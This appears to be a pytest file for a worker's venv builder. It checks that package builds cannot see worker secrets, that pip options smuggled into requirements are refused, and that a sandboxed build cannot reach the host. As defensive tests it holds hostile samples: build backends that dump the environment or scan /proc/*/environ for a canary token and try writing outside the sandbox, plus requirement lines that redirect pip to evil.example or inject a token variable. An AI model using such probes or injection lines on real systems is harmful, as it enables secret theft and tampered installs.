"""A venv build gets none of the worker's secrets, and installs requirements, never pip options."""

from __future__ import annotations

import json
import textwrap
from pathlib import Path

import pytest

from workers.launcher.venv import ensure_venv, venv_dir
from workers.launcher.venv_build import REQUIREMENTS_FILE, VenvError

CANARY = "canary-s3cret-5f1e77"

# An in-tree PEP 517 backend (no build requirement, so nothing to download): building the
# wheel writes the environment pip's build runs in, which is where a hostile setup.py runs.
BACKEND = """
import base64, hashlib, json, os, zipfile

DUMP = {dump!r}


def get_requires_for_build_wheel(config_settings=None):
    return []


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    with open(DUMP, "w") as out:
        json.dump(dict(os.environ), out)
    dist = "autopilot_canary_pkg-0.1.dist-info"
    files = {{
        "autopilot_canary_pkg.py": "",
        dist + "/METADATA": "Metadata-Version: 2.1\\nName: autopilot-canary-pkg\\nVersion: 0.1\\n",
        dist + "/WHEEL": "Wheel-Version: 1.0\\nGenerator: test\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n",
    }}
    record = []
    for path, text in files.items():
        digest = base64.urlsafe_b64encode(hashlib.sha256(text.encode()).digest()).rstrip(b"=")
        record.append(f"{{path}},sha256={{digest.decode()}},{{len(text.encode())}}")
    record.append(dist + "/RECORD,,")
    name = "autopilot_canary_pkg-0.1-py3-none-any.whl"
    with zipfile.ZipFile(os.path.join(wheel_directory, name), "w") as wheel:
        for path, text in files.items():
            wheel.writestr(path, text)
        wheel.writestr(dist + "/RECORD", "\\n".join(record) + "\\n")
    return name
"""


def _canary_package(root: Path, dump: Path) -> Path:
    pkg = root / "canary-pkg"
    pkg.mkdir()
    (pkg / "pyproject.toml").write_text(
        textwrap.dedent(
            """\
            [build-system]
            requires = []
            build-backend = "envdump"
            backend-path = ["."]
            """
        )
    )
    (pkg / "envdump.py").write_text(BACKEND.format(dump=str(dump)))
    return pkg


def test_no_worker_secret_reaches_pip_or_a_package_build(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("AUTOPILOT_CANARY_TOKEN", CANARY)
    monkeypatch.setenv("AUTOPILOT_GITHUB_TOKEN", CANARY)
    monkeypatch.setenv("AUTOPILOT_OPS_URL", f"postgresql://ops:{CANARY}@db/ops")
    monkeypatch.setenv("PYTHONPATH", f"/tmp/{CANARY}")
    monkeypatch.setenv("PIP_NO_INDEX", "1")  # an operator's pip setting: it goes through
    monkeypatch.setenv("LC_MESSAGES", "C")
    dump = tmp_path / "build-env.json"
    pkg = _canary_package(tmp_path, dump)

    built = ensure_venv(tmp_path / "state", "canary", [str(pkg)])

    assert built.built
    seen = dump.read_text()
    assert CANARY not in seen
    env = json.loads(seen)
    assert not [name for name in env if name.startswith("AUTOPILOT_")]
    assert env["PIP_NO_INDEX"] == "1"
    assert env["LC_MESSAGES"] == "C"
    home = Path(env["HOME"])
    assert home.parent == built.path.parent and home.name == f"{built.path.name}.home"
    assert not home.exists()  # the build's private home is gone with the build
    assert CANARY not in built.log_path.read_text()


@pytest.mark.parametrize(
    "line",
    [
        "--index-url http://evil.example/simple",
        "-i http://evil.example/simple",
        "numpy --config-settings=x=y",
        "numpy ${AUTOPILOT_GITHUB_TOKEN}",
        "numpy\n--extra-index-url http://evil.example/simple",
    ],
)
def test_a_pip_option_is_refused_before_anything_is_built(tmp_path: Path, line: str) -> None:
    with pytest.raises(VenvError, match="pip option") as caught:
        ensure_venv(tmp_path, "opts", ["numpy>=1.26", line])
    assert repr(line.strip()) in str(caught.value)  # the message names the line
    target = venv_dir(tmp_path, "opts", "0" * 12, "3.11").parent
    assert not list(target.glob(f"*/{REQUIREMENTS_FILE}"))
    assert not [p for p in target.iterdir() if p.is_dir()]  # no venv, no private home


# A hostile build backend: what it can reach while pip builds it goes into the module it
# installs (the only place a sandboxed build can write to that the test can read back).
HOSTILE_BACKEND = """
import base64, glob, hashlib, json, os, socket, zipfile

def probe():
    seen = {{"environ_hits": [], "wrote_outside": False, "state_visible": False, "pids": []}}
    for path in glob.glob("/proc/*/environ"):
        try:
            if {canary!r}.encode() in open(path, "rb").read():
                seen["environ_hits"].append(path)
        except OSError:
            pass
    seen["pids"] = sorted(int(p) for p in os.listdir("/proc") if p.isdigit())
    try:
        with open({outside!r}, "w") as out:
            out.write("pwned")
        seen["wrote_outside"] = True
    except OSError:
        pass
    seen["state_visible"] = os.path.exists({state!r})
    return seen


def get_requires_for_build_wheel(config_settings=None):
    return []


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    dist = "autopilot_canary_pkg-0.1.dist-info"
    files = {{
        "autopilot_canary_pkg.py": "FINDINGS = " + repr(json.dumps(probe())) + "\\n",
        dist + "/METADATA": "Metadata-Version: 2.1\\nName: autopilot-canary-pkg\\nVersion: 0.1\\n",
        dist + "/WHEEL": "Wheel-Version: 1.0\\nGenerator: test\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n",
    }}
    record = []
    for path, text in files.items():
        digest = base64.urlsafe_b64encode(hashlib.sha256(text.encode()).digest()).rstrip(b"=")
        record.append(f"{{path}},sha256={{digest.decode()}},{{len(text.encode())}}")
    record.append(dist + "/RECORD,,")
    name = "autopilot_canary_pkg-0.1-py3-none-any.whl"
    with zipfile.ZipFile(os.path.join(wheel_directory, name), "w") as wheel:
        for path, text in files.items():
            wheel.writestr(path, text)
        wheel.writestr(dist + "/RECORD", "\\n".join(record) + "\\n")
    return name
"""


def test_a_sandboxed_build_cannot_reach_the_worker_or_the_host(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from app.sandbox import confined

    if reason := confined.check():
        pytest.skip(f"no sandbox here: {reason}")
    monkeypatch.setenv("AUTOPILOT_CANARY_TOKEN", CANARY)  # in this (the worker's) environment
    state_secret = tmp_path / "state-secret"
    state_secret.mkdir()
    outside = tmp_path / "outside.txt"
    pkg = tmp_path / "hostile-pkg"
    pkg.mkdir()
    (pkg / "pyproject.toml").write_text(
        '[build-system]\nrequires = []\nbuild-backend = "hostile"\nbackend-path = ["."]\n'
    )
    (pkg / "hostile.py").write_text(
        HOSTILE_BACKEND.format(canary=CANARY, outside=str(outside), state=str(state_secret))
    )

    built = ensure_venv(tmp_path / "state", "hostile", [str(pkg)], sandboxed=True)

    site = next(built.path.glob("lib/python*/site-packages"))
    text = (site / "autopilot_canary_pkg.py").read_text()
    findings = json.loads(text.split("=", 1)[1].strip().strip("'"))
    assert findings["environ_hits"] == []  # no ancestor's environment is readable
    # The test's tmp dir is under /tmp, a private tmpfs inside the sandbox: a write there may
    # succeed, but never reaches the host.
    assert not outside.exists()
    assert findings["state_visible"] is False
    assert 1 in findings["pids"] and len(findings["pids"]) < 10  # its own PID namespace
    assert CANARY not in built.log_path.read_text()
